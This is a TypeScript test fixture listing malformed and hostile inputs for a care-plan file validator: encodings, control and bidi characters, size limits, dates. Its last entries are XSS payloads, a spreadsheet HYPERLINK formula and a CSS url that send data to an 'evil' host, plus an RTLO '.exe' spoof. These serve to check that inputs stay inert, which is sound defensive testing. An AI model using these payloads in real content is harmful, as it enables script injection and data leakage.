import { type BadInput, file, sensor, wrong } from './bad-input.ts'
import { releasedText } from '../tree.ts'

const name = 'case.technologies[0].name'
const note = `${sensor}.price.note`
const timing = 'case.settings.timing'
const date = `${sensor}.price.date`
const source = `${sensor}.price.source`

type Order = 'little' | 'big'

function utf16(text: string, order: Order) {
  return () => {
    const view = new DataView(new ArrayBuffer(2 * text.length))
    for (let n = 0; n < text.length; n++) view.setUint16(2 * n, text.charCodeAt(n), order === 'little')
    return new Uint8Array(view.buffer)
  }
}

function windows1252() {
  return new Uint8Array(Buffer.from(releasedText.replace('Bedsensor', 'Zorgco\xF6rdinator'), 'latin1'))
}

/** A text that must come back letter by letter: as text it can do nothing. */
function verbatim(id: string, path: string, text: string): BadInput {
  return {
    id,
    what: `${text.slice(0, 40)} is a text like any other`,
    outside: file([path, text]),
    becomes: (c) => (path === name ? c.technologies[0]?.name : c.technologies[0]?.assets[0]?.price.source),
    expected: text,
  }
}

export const texts: readonly BadInput[] = [
  ...(['little', 'big'] as const).flatMap((order): BadInput[] => [
    {
      id: 'T02',
      what: `UTF-16 with a mark, ${order} end first, is decoded`,
      outside: utf16(`\uFEFF${releasedText}`, order),
      becomes: (c) => c.name,
      expected: 'Slimme nachtzorg De Linde',
    },
    {
      id: 'T02',
      what: `UTF-16 without a mark, ${order} end first`,
      outside: utf16(releasedText, order),
      refusal: { code: 'not-utf8' },
    },
    {
      id: 'T02',
      what: `half a letter of UTF-16, ${order} end first`,
      outside: () => utf16(`\uFEFF${releasedText}`, order)().slice(0, -1),
      refusal: { code: 'not-utf8' },
    },
  ]),
  { id: 'T03', what: 'letters of Windows', outside: windows1252, refusal: { code: 'not-utf8' } },
  wrong('T04', name, 'a\u0000b', { code: 'control-character', found: 'a\\u0000b' }),
  wrong('T04', note, 'a\u0007b', { code: 'control-character' }),
  wrong('T05', name, '\ud800', { code: 'control-character', found: '\\uD800' }),
  wrong('T05', note, '\udc00a', { code: 'control-character' }),
  ...['\u202E', '\u2066', '\u2067', '\u2068', '\u2069'].map((turn) =>
    wrong('T06', name, `Begroting${turn}gpj.exe`, { code: 'control-character' }),
  ),
  wrong('T07', timing, 'mid\u200B', { code: 'not-in-list', found: 'mid\\u200B' }),
  wrong('T07', timing, 'еnd', { code: 'not-in-list', found: 'еnd' }),
  verbatim('T07', name, 'С\u200BС'),
  {
    id: 'T08',
    what: 'a label of 10 MB',
    outside: file([name, 'x'.repeat(10_000_000)]),
    refusal: { code: 'too-large', limit: 5_000_000 },
  },
  wrong('T08', note, 'x'.repeat(5001), { code: 'text-too-long', limit: 5000, length: 5001 }),
  wrong('T08', name, 'x'.repeat(201), { code: 'text-too-long', limit: 200, length: 201 }),
  ...['   ', '\u3164', '\u3164\u200B', ''].map((blank) => wrong('T11', name, blank, { code: 'blank' })),
  wrong('T14', date, '2026-03-29T02:30:00', { code: 'not-a-date' }),
  wrong('T14', date, '2026-03-29T02:30:00+14:00', { code: 'not-a-date' }),
  {
    id: 'T14',
    what: 'a day stays the day that is written, wherever the clock stands',
    outside: file([date, '2026-03-29']),
    becomes: (c) => c.technologies[0]?.assets[0]?.price.date,
    expected: '2026-03-29',
  },
  // No text becomes an address that can be clicked; test/browser/outside.test.ts looks for links on the screens.
  verbatim('X03', source, 'javascript:window.__xss=1'),
  verbatim('X03', source, '<img src=x onerror="window.__xss=1">'),
  // A case has no colours and no pictures.
  ...['red;background:url(https://evil/?x)', 'url(#a)'].map((colour) =>
    wrong('X05', 'case.technologies[0].color', colour, { code: 'unknown-key', key: 'color' }),
  ),
  wrong('X06', 'case.logo', 'data:image/svg+xml,<svg onload="window.__xss=1">', {
    code: 'unknown-key',
    key: 'logo',
  }),
  verbatim('X09', name, '=HYPERLINK("http://evil/?"&A1,"klik")'),
  verbatim('X15', name, 'https://evil.example/track.png'),
]
